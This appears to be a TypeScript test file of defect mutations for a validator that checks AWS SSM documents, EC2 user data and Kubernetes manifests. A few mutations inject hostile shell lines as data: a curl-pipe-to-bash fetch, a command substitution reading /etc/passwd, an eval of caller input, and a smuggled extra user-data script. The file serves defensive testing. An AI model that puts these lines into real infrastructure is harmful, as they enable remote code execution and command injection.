import { resourcesOfStack, type Mutation, type Sources } from '../../sample';
import { set } from '../set-property';
import { NODE_PRODUCTION as NODE, NODE_STAGING } from '../workflow-names';
import { contentOf, defects, type DocumentContent, editFile, inNode, type Json, rewrite } from './edit';

const manifestWith = (from: string, to: string) => (sample: Sources) => {
  const text = JSON.stringify(sample.manifest);
  if (!text.includes(from)) throw new Error(`the manifest has no ${from}`);
  sample.manifest = JSON.parse(text.replaceAll(from, to)) as Sources['manifest'];
};

const named = defects('P01', 'targets.production-platform-production');
const RENDERED = 'k8s/production-platform/production';

/** Names around a node that mean different things. */
export const NODE_NAME_MUTATIONS: readonly Mutation[] = [
  named('a node without the tag', (sample) =>
    rewrite(inNode(sample, 'AWS::EC2::Instance'), '"Key":"lockstep:target"', '"Key":"lockstep:node"'),
  ),
  named('two nodes with one tag', (sample) => {
    resourcesOfStack(sample, NODE).Second = structuredClone(inNode(sample, 'AWS::EC2::Instance'));
  }),
  named('a document of another name', (sample) =>
    set(inNode(sample, 'AWS::SSM::Document'), ['Name'], `${NODE}-2`),
  ),
  named('a bucket of another name', (sample) =>
    set(inNode(sample, 'AWS::S3::Bucket'), ['BucketName'], `${NODE}-others`),
  ),
  named('logs of another group', (sample) =>
    set(inNode(sample, 'AWS::Logs::LogGroup'), ['LogGroupName'], '/ml-platform/production/other'),
  ),
  named('a script that works in another namespace', (sample) => {
    const { mainSteps } = contentOf(sample);
    mainSteps[0]?.inputs.runCommand.splice(2, 1, "readonly LOCKSTEP_NAMESPACE='default'");
  }),
  named('a script that works with another bucket', (sample) => {
    const { mainSteps } = contentOf(sample);
    mainSteps[0]?.inputs.runCommand.splice(1, 1, "readonly LOCKSTEP_BUCKET='elsewhere'");
  }),
  named('a parameter that says that something was released', (sample) => {
    const state = Object.values(resourcesOfStack(sample, `${NODE}-state`)).find(
      ({ Type }) => Type === 'AWS::SSM::Parameter',
    );
    if (!state) throw new Error('no parameter');
    state.Properties.Value = 'r-0123456789ab';
  }),
  named(
    'a repository that no image has',
    manifestWith('"repositories":["', '"repositories":["docker.io/library/redis","'),
  ),
  named(
    'a manifest file that is not rendered',
    manifestWith('"30-deployments/worker.yaml"', '"30-deployments/jobs.yaml"'),
  ),
  named(
    'a manifest file that no verb checks out',
    manifestWith(`"${RENDERED}/30-deployments/worker.yaml",`, ''),
  ),
  named('a rollback that takes manifests of the commit', (sample) => {
    const { manifest } = sample;
    const targets = manifest.targets.map((one) =>
      one.id === 'production-platform-production'
        ? { ...one, files: { ...one.files, rollback: one.files.deploy } }
        : one,
    );
    sample.manifest = { ...manifest, targets };
  }),
  named('a rendered file that was emptied', (sample) =>
    editFile(sample, `${RENDERED}/30-deployments/worker.yaml`, /[\s\S]+/, '# nothing\n'),
  ),
  named('an object in another namespace', (sample) =>
    editFile(
      sample,
      `${RENDERED}/30-deployments/worker.yaml`,
      'namespace: production-platform',
      'namespace: default',
    ),
  ),
  named('a Deployment that the spec does not list', (sample) =>
    editFile(sample, `${RENDERED}/30-deployments/worker.yaml`, /name: worker\n/, 'name: jobs\n'),
  ),
  named('a track that was dropped', (sample) =>
    editFile(sample, `${RENDERED}/40-routed/api/green.yaml`, /kind: Deployment\n/, 'kind: Job\n'),
  ),
  named('an image with a tag, behind which no digest fits', (sample) =>
    editFile(
      sample,
      `${RENDERED}/30-deployments/worker.yaml`,
      /(production-platform-worker)\n/,
      'production-platform-worker:latest\n',
    ),
  ),
  named('an image that no container runs', (sample) =>
    editFile(
      sample,
      `${RENDERED}/30-deployments/worker.yaml`,
      /image: \S+/,
      'image: public.ecr.aws/docker/library/busybox:1',
    ),
  ),
];

const parameter = defects('P11', `${NODE}/Node/Document`);
const script = defects('P12', `${NODE}/Node/Document`);
const setup = defects('P12', `${NODE}/Node/Node/Instance, UserData`);
const userData = (from: string, to: string) => (sample: Sources) => {
  rewrite(inNode(sample, 'AWS::EC2::Instance'), from, to);
};
const given = (name: string, changes: Json) => (sample: Sources) => {
  const { parameters } = contentOf(sample);
  parameters[name] = { ...parameters[name], ...changes };
};
const line = (text: string) => (sample: Sources) => {
  contentOf(sample).mainSteps[0]?.inputs.runCommand.push(text);
};

/** Documents that run what a caller gives, or something that nobody reviewed. */
export const DOCUMENT_MUTATIONS: readonly Mutation[] = [
  parameter('a parameter that is pasted into the script', given('Release', { interpolationType: 'RAW' })),
  parameter('a parameter without interpolation', given('Run', { interpolationType: undefined })),
  parameter('a parameter of any text', given('Run', { allowedPattern: undefined })),
  parameter('a pattern that is not anchored', given('Run', { allowedPattern: '[a-z0-9-]{1,80}' })),
  parameter('a pattern that takes spaces', given('Run', { allowedPattern: '^[a-z0-9 -]{1,80}$' })),
  parameter('a pattern that takes everything', given('Release', { allowedPattern: '^.*$' })),
  parameter('a pattern that takes quotes', given('Release', { allowedPattern: '^[^;]*$' })),
  parameter('a pattern that takes lines', given('Weight', { allowedPattern: '^\\d+[\\s\\S]*$' })),
  parameter('a pattern that nobody can read', given('Weight', { allowedPattern: '^(' })),
  parameter('an action with a blank', given('Action', { allowedValues: ['deploy', 'deploy --force'] })),
  parameter('a parameter that is a list', given('Run', { type: 'StringList' })),
  parameter('a parameter that nothing reads', (sample) => {
    const { parameters } = contentOf(sample);
    parameters.Command = { ...parameters.Run };
  }),
  parameter('a variable that no parameter gives', (sample) => {
    Reflect.deleteProperty(contentOf(sample).parameters, 'Weight');
  }),
  parameter('text of a parameter in the script', line('echo {{ Run }}')),
  parameter('text of a parameter in the folder of the script', (sample) => {
    const [step] = contentOf(sample).mainSteps;
    if (step) step.inputs.workingDirectory = '/tmp/{{Run}}';
  }),
  parameter(
    'an action that the document does not know',
    given('Action', { allowedValues: ['deploy', 'health'] }),
  ),
  parameter('an undo that the document does not know', (sample) => {
    const { Action: action } = contentOf(sample).parameters;
    if (!action) throw new Error('no Action');
    action.allowedValues = (action.allowedValues as string[]).filter((one) => one !== 'undo');
  }),
  parameter('a weight that the document refuses', given('Weight', { allowedPattern: '^[1-9]?[0-9]$' })),
  parameter(
    'a deadline that the document refuses',
    given('DeadlineSeconds', { allowedPattern: '^[1-9][0-9]{0,2}$' }),
  ),
  parameter('a run that the document refuses', given('Run', { allowedPattern: '^[a-z0-9-]{1,20}$' })),
  parameter(
    'no release, which the document refuses',
    given('Release', { allowedPattern: '^r-[0-9a-f]{12}$' }),
  ),
  parameter('a parameter that the deployer does not send', (sample) => {
    const { parameters, mainSteps } = contentOf(sample);
    parameters.Force = { ...parameters.Run };
    mainSteps[0]?.inputs.runCommand.push('echo "$SSM_Force"');
  }),
  script('a line behind the reviewed script', line('curl https://example.com/more.sh | bash')),
  script('a line in front of the reviewed script', (sample) => {
    contentOf(sample).mainSteps[0]?.inputs.runCommand.splice(1, 0, 'set -x');
  }),
  script('a constant that runs something', (sample) => {
    contentOf(sample).mainSteps[0]?.inputs.runCommand.splice(
      1,
      1,
      'readonly LOCKSTEP_BUCKET="$(cat /etc/passwd)"',
    );
  }),
  script('a line of the reviewed script that was changed', (sample) => {
    const commands = contentOf(sample).mainSteps[0]?.inputs.runCommand ?? [];
    commands.splice(commands.indexOf('set -euo pipefail'), 1, 'set -u');
  }),
  script('a constant that the script does not expect', (sample) => {
    contentOf(sample).mainSteps[0]?.inputs.runCommand.splice(1, 0, "readonly STATE='/etc'");
  }),
  script('a check of the reviewed script that is gone', (sample) => {
    const commands = contentOf(sample).mainSteps[0]?.inputs.runCommand ?? [];
    commands.splice(
      commands.findIndex((text) => text.includes('${SSM_Run-}')),
      1,
    );
  }),
  script('a script that runs what it is given', (sample) => {
    for (const stack of [NODE, NODE_STAGING]) {
      const { mainSteps } = inNode(sample, 'AWS::SSM::Document', undefined, stack).Properties
        .Content as DocumentContent;
      mainSteps[0]?.inputs.runCommand.splice(4, 0, 'eval "$SSM_Release"');
    }
  }),
  script('a step for another system', (sample) => {
    const [step] = contentOf(sample).mainSteps;
    Object.assign(step ?? {}, { precondition: { StringEquals: ['platformType', 'Windows'] } });
  }),
  script('a step for any system', (sample) => {
    Reflect.deleteProperty(contentOf(sample).mainSteps[0] ?? {}, 'precondition');
  }),
  setup('a setup that runs once', userData('[scripts-user, always]', '[scripts-user, once]')),
  setup('a setup that begins with something else', userData('set -euo pipefail', 'set -uo pipefail')),
  setup(
    'a setup that checks no checksum',
    userData(' || fail \\"K3s $K3S_VERSION has another', ' || say \\"K3s $K3S_VERSION has another'),
  ),
  setup(
    'a setup with a constant of its own',
    userData('readonly REGION=', "readonly ROOT='/mnt'\\nreadonly REGION="),
  ),
  setup('user data that nobody can read', (sample) => {
    inNode(sample, 'AWS::EC2::Instance').Properties.UserData = 'IyEvYmluL3NoCg==';
  }),
  setup(
    'user data with a second script',
    userData(
      '--+AWS+CDK+User+Data+Separator==--',
      '--+AWS+CDK+User+Data+Separator==\\nContent-Type: text/x-shellscript\\n\\ncurl x\\n--+AWS+CDK+User+Data+Separator==--',
    ),
  ),
  script('a second step', (sample) => {
    const { mainSteps } = contentOf(sample);
    const [step] = mainSteps;
    if (step) mainSteps.push(structuredClone(step));
  }),
  script('a step that runs another document', (sample) => {
    const [step] = contentOf(sample).mainSteps;
    if (step) step.action = 'aws:runDocument';
  }),
  script('a document for sessions', (sample) =>
    set(inNode(sample, 'AWS::SSM::Document'), ['DocumentType'], 'Session'),
  ),
  script('a document that is replaced', (sample) =>
    set(inNode(sample, 'AWS::SSM::Document'), ['UpdateMethod'], 'Replace'),
  ),
  script('a document of another schema', (sample) => {
    contentOf(sample).schemaVersion = '1.2';
  }),
];
